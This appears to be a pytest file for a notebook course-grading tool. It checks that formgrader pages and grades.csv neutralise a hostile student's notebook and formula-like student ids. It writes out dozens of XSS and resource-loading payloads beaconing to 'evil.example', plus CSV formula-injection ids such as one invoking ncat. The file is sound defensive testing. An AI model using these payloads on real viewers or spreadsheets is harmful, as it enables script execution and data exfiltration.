@@ -1,0 +1,365 @@
+"""Every byte a student controls, on every page and in every file that shows it (issue 15).
+
+A tiny class (test_faults' one-function assignment) is graded by `d2lcourse grade`: a
+hostile student whose notebook carries attacks of every kind in every field (cells,
+outputs of each MIME type, attachments, metadata), and students whose ids are
+spreadsheet formulas. Formgrader's own view of the autograded notebook is rendered as
+formgrader renders it (its `formgrade` template and HTMLExporter, under the course's
+nbgrader config) and opened in Chromium, served with formgrader's scripts; every attack
+reports to a local server if it runs or loads anything. The same attacks on the
+submitted notebook, uncleaned, show that they would run.
+"""
+import csv
+import html
+import http.server
+import io
+import json
+import re
+import threading
+import urllib.parse
+
+import nbformat
+import pytest
+
+from d2lcourse import cli
+from d2lcourse.autograder import reports
+from d2lcourse.autograder.evaluate import TestCell, Verdict
+from d2lcourse.autograder.grade import Recorder, unstorable
+from d2lcourse.autograder.pages import safe_html, sanitize_cell
+from d2lcourse.autograder.sandbox import bubblewrap_problem
+from d2lcourse.grading import TestResult
+from test_faults import ASSIGNMENT, known_assignment, submit, write_source  # noqa: F401
+from test_pages import (CHROMIUM, MARK, STUDENT_TEX, assert_nothing_executable, chromium,
+                        mathjax_cdn, png, typeset_math)  # noqa: F401
+
+pytestmark = pytest.mark.skipif(bubblewrap_problem() is not None,
+                                reason="bubblewrap cannot run here")
+
+EVIL = "evil.example"  # every host name but MathJax's CDN leads to the local server
+CHROMIUMS_OWN = "EXCLUDE *.google.com, EXCLUDE *.googleapis.com"  # its clock and updates
+# Student ids that a spreadsheet would run as formulas (nbgrader takes each as an id).
+FORMULA_IDS = ("=HYPERLINK(CONCATENATE(A1;B1);C1)", "+cmd|ncat evil.example 80!A0", "-2+3",
+               "@SUM(1)", "\uff1d1+1", "\u22121+1")
+
+
+def leak(name):
+    """A URL that reports `name` to the local server when anything fetches it."""
+    return f"http://{EVIL}/leak/{name}"
+
+
+def beacon(name):
+    """JavaScript that marks the page and reports `name` if it ever runs."""
+    return (f"document.title='{MARK}-{name}';new Image().src='{leak(name)}'")
+
+
+def attack_markup():
+    """HTML and TeX that run script or load something, each in its own way."""
+    return "\n\n".join([
+        f"<script>{beacon('script')}</script>",
+        f"<img src=x onerror=\"{beacon('img-onerror')}\">",
+        f"<svg onload=\"{beacon('svg-onload')}\"><circle r=5 /></svg>",
+        f"<details open ontoggle=\"{beacon('details-ontoggle')}\"><summary>s</summary></details>",
+        f"<iframe srcdoc=\"<script>parent.{beacon('iframe-srcdoc')}</script>\"></iframe>",
+        f"<a id=jslink href=\"javascript:{beacon('javascript-link')}\">link</a>",
+        f"<a id=datalink href=\"data:text/html,<script>{beacon('data-link')}</script>\">d</a>",
+        f"<style>@import url({leak('style-import')}); body {{background: url({leak('css')})}}"
+        "</style>",
+        f"<link rel=stylesheet href=\"{leak('link-stylesheet')}\">",
+        f"<div style=\"background-image: url({leak('style-attribute')})\">styled</div>",
+        f"<meta http-equiv=refresh content=\"0; url={leak('meta-refresh')}\">",
+        f"<base href=\"http://{EVIL}/leak/base/\"><img src=\"relative.png\">",
+        f"<form id=form action=\"{leak('form-action')}\"><button>send</button></form>",
+        f"<input autofocus onfocus=\"{beacon('autofocus')}\">",
+        f"<img src=\"{leak('remote-image')}\">",
+        f"<object data=\"{leak('object')}\"></object><embed src=\"{leak('embed')}\">",
+        f"<video><source onerror=\"{beacon('video-source')}\"></video>",
+        f"<p class=\"tex2jax_process full-credit\">$\\style{{background-image: url("
+        f"{leak('tex-style')})}}{{x}}$</p>",
+        f"$\\bbox[background-image: url({leak('tex-bbox')})]{{y}}$",
+        f"$\\href{{javascript:{beacon('tex-href')}}}{{z}}$",
+        f"$\\h&#114;ef{{{leak('tex-entity')}}}{{w}}$ and $\\require{{{leak('tex-require')}}}$",
+        f"$\\class{{x}}{{\\cssId{{notebook}}{{v}}}}$ $\\unicode{{x1F600}}$",
+    ])
+
+
+def hostile_notebook(release):
+    """The release with attacks in every field a viewer might show."""
+    notebook = nbformat.read(str(release), 4)
+    markdown = nbformat.v4.new_markdown_cell(
+        attack_markup() + "\n\n![a](attachment:page.html) ![b](attachment:evil.svg)",
+        attachments={"page.html": {"text/html": f"<script>{beacon('attachment-html')}</script>"},
+                     "evil.svg": {"image/svg+xml": f"<svg onload=\"{beacon('attachment-svg')}\"/>"}})
+    markdown.metadata = {"tags": [f"x\"><img src=x onerror=\"{beacon('tag')}\">"],
+                         "nbgrader": {"solution": True, "grade": False, "locked": True,
+                                      "grade_id": "not_in_the_gradebook",
+                                      "schema_version": 3},  # 'locked', but not the instructor's
+                         "jupyter": {"source_hidden": False}}
+    outputs = nbformat.v4.new_code_cell("show()", execution_count=2)
+    markup = attack_markup()
+    widget = {"model_id": "1", "version_major": 2, "version_minor": 0}
+    outputs.outputs = [
+        nbformat.v4.new_output("display_data", data={"text/markdown": markup}),
+        nbformat.v4.new_output("display_data", data={"text/html": markup}),
+        nbformat.v4.new_output("display_data", data={"text/html": markup},
+                               metadata={"text/html": {"isolated": True}}),
+        nbformat.v4.new_output("display_data", data={
+            "image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{beacon('svg')}\">"
+                             f"<image href='{leak('svg-image')}'/></svg>"}),
+        nbformat.v4.new_output("display_data", data={"application/javascript": beacon("js")}),
+        nbformat.v4.new_output("display_data", data={
+            "application/vnd.jupyter.widget-view+json": widget, "text/plain": "a widget"}),
+        nbformat.v4.new_output("display_data", data={
+            "text/latex": f"$\\style{{background: url({leak('latex')})}}{{x}}$"}),
+        nbformat.v4.new_output("display_data", data={
+            "text/vnd.mermaid": f"graph TD; A-->B; click A \"{leak('mermaid')}\"",
+            "application/x-unknown": f"<script>{beacon('unknown')}</script>"}),
+        nbformat.v4.new_output("display_data", data={"image/png": png()}, metadata={
+            "filenames": {"image/png": leak("filenames")}}),
+        nbformat.v4.new_output("execute_result", execution_count=2, data={
+            "image/jpeg": f"\"><img src=x onerror=\"{beacon('jpeg')}\">",
+            "text/plain": "<script>shown as text</script>"}),
+    ]
+    raw = nbformat.v4.new_raw_cell(markup, metadata={"raw_mimetype": "text/html"})
+    formula = nbformat.v4.new_markdown_cell(f"My formula: ${STUDENT_TEX}$")
+    notebook.cells[1:1] = [formula, markdown, outputs, raw]
+    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
+        "version_major": 2, "version_minor": 0, "state": {"1": {
+            "model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
+            "model_module_version": "2.0.0", "state": {"value": markup}}}}}
+    notebook.metadata["title"] = f"<script>{beacon('title')}</script>"
+    return notebook
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory, known_assignment):  # noqa: F811
+    """The class graded by `d2lcourse grade`; returns the course folder."""
+    course = tmp_path_factory.mktemp("bytes") / "course"
+    write_source(course)
+    Recorder(course, ASSIGNMENT).ensure_assignment()
+    for student in ("good",) + FORMULA_IDS:
+        submit(course, student)
+    release = course / "release" / ASSIGNMENT.id / ASSIGNMENT.notebook
+    submit(course, "hostile", nbformat.writes(hostile_notebook(release)).encode())
+    assert cli.main(["grade", ASSIGNMENT.id, "--course", str(course)]) == 0
+    return course
+
+
+# --------------------------------------------------------------------------- formgrader
+
+class Witness(http.server.BaseHTTPRequestHandler):
+    """Serves formgrader's pages and static files; every other request is a leak."""
+
+    def do_GET(self):
+        path = urllib.parse.urlsplit(self.path).path
+        if self.headers.get("Host") != self.server.own_host or path.startswith("/leak/"):
+            self.server.leaks.append(f"{self.headers.get('Host')}{path}")
+        elif path in self.server.pages:
+            return self.reply(200, "text/html", self.server.pages[path].encode())
+        elif path.startswith("/formgrader/static/"):
+            from nbgrader.server_extensions.formgrader import handlers
+            file = (handlers.static_path + path[len("/formgrader/static"):])
+            if ".." not in path and re.fullmatch(r"[\w./@-]+", path):
+                try:
+                    with open(file, "rb") as stream:
+                        kind = "text/css" if file.endswith(".css") else "text/javascript"
+                        return self.reply(200, kind, stream.read())
+                except OSError:
+                    pass
+        self.reply(404, "text/plain", b"")
+
+    do_POST = do_PUT = do_GET
+
+    def reply(self, status, kind, body):
+        self.send_response(status)
+        self.send_header("Content-Type", kind)
+        self.send_header("Content-Length", str(len(body)))
+        self.end_headers()
+        self.wfile.write(body)
+
+    def send_error(self, code, message=None, explain=None):  # e.g. a TLS hello: a leak too
+        self.server.leaks.append(f"malformed request ({code})")
+        super().send_error(code, message, explain)
+
+    def log_message(self, format, *arguments):
+        pass
+
+
+@pytest.fixture(scope="module")
+def witness():
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Witness)
+    server.own_host = f"127.0.0.1:{server.server_address[1]}"
+    server.pages, server.leaks = {}, []
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server
+    server.shutdown()
+    server.server_close()
+
+
+def formgrader_page(course, notebook_path, student):
+    """The page formgrader serves for a submission: its HTMLExporter, configured as
+    `FormgradeExtension` does (the course's nbgrader config, the formgrade template)."""
+    from nbconvert.exporters import HTMLExporter
+    from nbgrader.server_extensions.formgrader import handlers
+    from traitlets.config.loader import PyFileConfigLoader
+    config = PyFileConfigLoader("nbgrader_config.py", path=str(course)).load_config()
+    config.HTMLExporter.template_name = "formgrade"
+    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
+    resources = {"assignment_id": ASSIGNMENT.id, "notebook_id": "faults",
+                 "submission_id": "0123456789abcdef", "index": 0, "total": 1, "base_url": "",
+                 "student": student, "last_name": None, "first_name": None,
+                 "notebook_path": f"course/autograded/{student}/{ASSIGNMENT.id}/faults.ipynb"}
+    page, _ = HTMLExporter(config=config).from_filename(str(notebook_path), resources=resources)
+    return page
+
+
+def open_in_chromium(server, name, page, cdn, folder):
+    """The DOM of `page`, served by `server`, once its scripts and MathJax are done, and
+    the leaks it caused."""
+    server.pages[f"/{name}.html"] = page
+    del server.leaks[:]
+    rules, *others = cdn
+    dom = chromium(f"http://{server.own_host}/{name}.html",
+                   f"{rules}, MAP * {server.own_host}, {CHROMIUMS_OWN}", *others, "--dump-dom",
+                   "--virtual-time-budget=10000", profile=folder / f"profile-{name}").stdout
+    return dom, sorted(set(server.leaks))
+
+
+def student_part(page):
+    """The notebook's cells in formgrader's page (the rest is nbgrader's own markup)."""
+    return page.split('id="notebook-container"')[1].split('<div class="help">')[0]
+
+
+def test_formgraders_view_of_the_autograded_notebook_runs_and_loads_nothing(
+        course, witness, mathjax_cdn, tmp_path):
+    cdn, requested = mathjax_cdn
+    submitted = course / "submitted" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
+    autograded = course / "autograded" / "hostile" / ASSIGNMENT.id / ASSIGNMENT.notebook
+    assert autograded.is_file()
+
+    stock_dom, stock_leaks = open_in_chromium(
+        witness, "stock", formgrader_page(course, submitted, "hostile"), cdn, tmp_path)
+    names = {leak.rsplit("/", 1)[1] for leak in stock_leaks}
+    # The attacks work: uncleaned, formgrader runs the student's scripts and TeX.
+    assert {"script", "img-onerror", "js", "remote-image", "filenames"} <= names, stock_leaks
+    assert MARK.replace("' + '", "") in stock_dom
+
+    page = formgrader_page(course, autograded, "hostile")
+    assert_nothing_executable(student_part(page))
+    dom, leaks = open_in_chromium(witness, "autograded", page, cdn, tmp_path)
+    assert leaks == []
+    assert MARK.replace("' + '", "") not in dom
+    assert "<title>faults</title>" in dom
+    assert not [path for path in requested if "leak" in path]
+    assert (STUDENT_TEX, True) in typeset_math(dom)  # MathJax ran over the student's math
+    assert "&lt;script&gt;" in dom  # the attempt is shown as text
+    assert "(not shown: " in dom and "application/javascript" in dom
+
+
+def test_the_autograded_notebook_keeps_nothing_a_viewer_could_run(course):
+    autograded = nbformat.read(str(course / "autograded" / "hostile" / ASSIGNMENT.id /
+                                   ASSIGNMENT.notebook), 4)
+    assert set(autograded.metadata) <= {"kernelspec", "language_info", "d2lcourse"}
+    mimes = {mime for cell in autograded.cells if cell.cell_type == "code"
+             for output in cell.outputs for mime in output.get("data", {})}
+    assert mimes <= {"text/plain", "text/html", "text/latex", "image/png"}, mimes
+    for cell in autograded.cells:
+        assert set(cell.metadata) <= {"nbgrader", "tags", "raw_mimetype"}, cell.metadata
+        assert not cell.get("attachments")
+        for output in cell.get("outputs", []):
+            assert set(output.get("metadata", {})) <= {"image/png"}, output.metadata
+            assert_nothing_executable(output.get("data", {}).get("text/html", ""))
+        if cell.cell_type != "code" and "grade_id" not in cell.metadata.get("nbgrader", {}):
+            assert_nothing_executable(cell.source)
+            assert "\\href" not in cell.source and "\\style" not in cell.source
+
+
+def test_tex_commands_that_set_links_or_styles_are_broken_however_spelled():
+    for tex in (r"\href{javascript:x}{y}", r"\h&#114;ef{x}{y}", r"&#92;style{x}{y}",
+                r"&#x5c;class{x}{y}", r"&bsol;cssId{a}{b}", r"\bbox[url(x)]{y}",
+                r"\require{x}", r"\unicode{x}", r"\htmlStyle{x}{y}", r"\data{x}{y}"):
+        cleaned = html.unescape(safe_html(f"<p>${tex}$</p>"))
+        assert not re.search(r"\\(href|style|class|cssId|bbox|require|unicode|html|data)",
+                             cleaned), (tex, cleaned)
+    kept = r"\frac{a}{b} + \hbar \stylish \classic"  # other commands, and longer names
+    assert html.unescape(safe_html(f"<p>${kept}$</p>")) == f"<p>${kept}$</p>"
+
+
+def test_markdown_outputs_and_cells_of_any_kind_become_cleaned_html():
+    cell = nbformat.from_dict({"cell_type": "code", "source": "", "metadata": {},
+                               "execution_count": None, "outputs": [{
+                                   "output_type": "display_data", "metadata": {},
+                                   "data": {"text/markdown": "**bold** <script>x</script>"}}]})
+    sanitize_cell(cell)
+    assert cell.outputs[0].data == {"text/html": "<p><strong>bold</strong> "
+                                                 "&lt;script&gt;x&lt;/script&gt;</p>\n"}
+    raw = nbformat.from_dict({"cell_type": "raw", "metadata": {"format": "text/html"},
+                              "source": "<b>a</b>\n\n<script>x</script>"})
+    sanitize_cell(raw)
+    assert raw.source == "<div><b>a</b>&#10;&#10;&lt;script&gt;x&lt;/script&gt;</div>"
+    assert raw.metadata == {"raw_mimetype": "text/html"}
+
+
+def test_an_image_must_be_the_image_it_claims_to_be():
+    real = png()
+    cell = nbformat.from_dict({"cell_type": "code", "source": "", "metadata": {},
+                               "execution_count": None, "outputs": [
+                                   {"output_type": "display_data", "metadata": {},
+                                    "data": {"image/png": real}},
+                                   {"output_type": "display_data", "metadata": {},
+                                    "data": {"image/jpeg": real, "image/gif": "R0lGODlh"}}]})
+    sanitize_cell(cell)
+    assert cell.outputs[0].data == {"image/png": real}
+    assert cell.outputs[1].data == {"image/gif": "R0lGODlh"}  # GIF89a's base64
+    assert "image/jpeg" in cell.outputs[2].data["text/plain"]  # a PNG called a JPEG
+
+
+def test_an_id_that_formgrader_would_show_as_markup_is_refused_with_its_fix():
+    for student in (f"<img src=x onerror={MARK}>", 'a" onmouseover="x', "x'y", "a&lt;b"):
+        message = unstorable(student)
+        assert message.startswith(f"cannot grade submitted/{student}: ") and \
+            message.endswith("rename the folder and rerun"), message
+    assert unstorable("  =1+1").startswith("cannot grade submitted/  =1+1: nbgrader strips")
+    assert not [student for student in FORMULA_IDS if unstorable(student)]
+
+
+# --------------------------------------------------------------------------- CSV
+
+def original(field):
+    """How report.html says to read a student id in grades.csv."""
+    return field[1:] if field.startswith("'") and reports.FORMULA_START.match(field[1:]) else field
+
+
+def test_formula_ids_are_text_in_grades_csv_and_points_stay_numbers(course):
+    path = course / "reports" / ASSIGNMENT.id / "grades.csv"
+    with open(path, newline="") as stream:
+        header, *rows = list(csv.reader(stream, quoting=csv.QUOTE_NONNUMERIC))
+    assert header == ["student_id", "status", "test_double", "test_double_int", "total",
+                      "max_total", *reports.LATE_COLUMNS]
+    by_id = {original(row[0]): row for row in rows}
+    assert set(by_id) == {"good", "hostile", *FORMULA_IDS}
+    for student in FORMULA_IDS:
+        assert by_id[student][0] == "'" + student
+        assert by_id[student][1:] == ["ok", 2.0, 1.0, 3.0, 3.0, 0.0, 3.0]  # unquoted numbers
+    assert by_id["good"][0] == "good"
+    text = path.read_text()
+    for student in FORMULA_IDS:  # quoted, so a separator in an id stays in its field
+        assert f'"\'{student}","ok",2.0,1.0,3.0,3.0,0.0,3.0' in text.splitlines()
+    report = (course / "reports" / ASSIGNMENT.id / "report.html").read_text()
+    assert html.escape(reports.CSV_NOTE) in report
+
+
+def test_every_formula_start_is_neutralised_in_every_text_field(tmp_path):
+    """Ids nbgrader refuses (tabs, carriage returns) and messages, through the writer."""
+    tests = [TestCell("test_a", "", 1.0)]
+    hostile = ("\t=1+1", "\r=1+1", " \t@A1", "=1", "+1", "-1", "@1")
+    verdicts = {student: Verdict("ok", "", [TestResult("test_a", "a", 1.0, 1.0, "")])
+                for student in hostile}
+    verdicts["plain"] = Verdict("crashed", "=cmd|x", [TestResult("test_a", "a", 0.0, 1.0, "")])
+    reports.write(tmp_path, ASSIGNMENT, tests, verdicts, False, io.StringIO())
+    with open(tmp_path / "reports" / ASSIGNMENT.id / "grades.csv", newline="") as stream:
+        rows = list(csv.reader(stream, quoting=csv.QUOTE_NONNUMERIC))[1:]
+    ids = {row[0] for row in rows}
+    assert ids == {"'" + student for student in hostile} | {"plain"}
+    assert all(type(value) is float for row in rows for value in row[2:])
+    assert reports.spreadsheet_cell(-2.5) == -2.5 and reports.spreadsheet_cell(3) == 3
+    assert json.dumps(reports.spreadsheet_cell("ok")) == '"ok"'
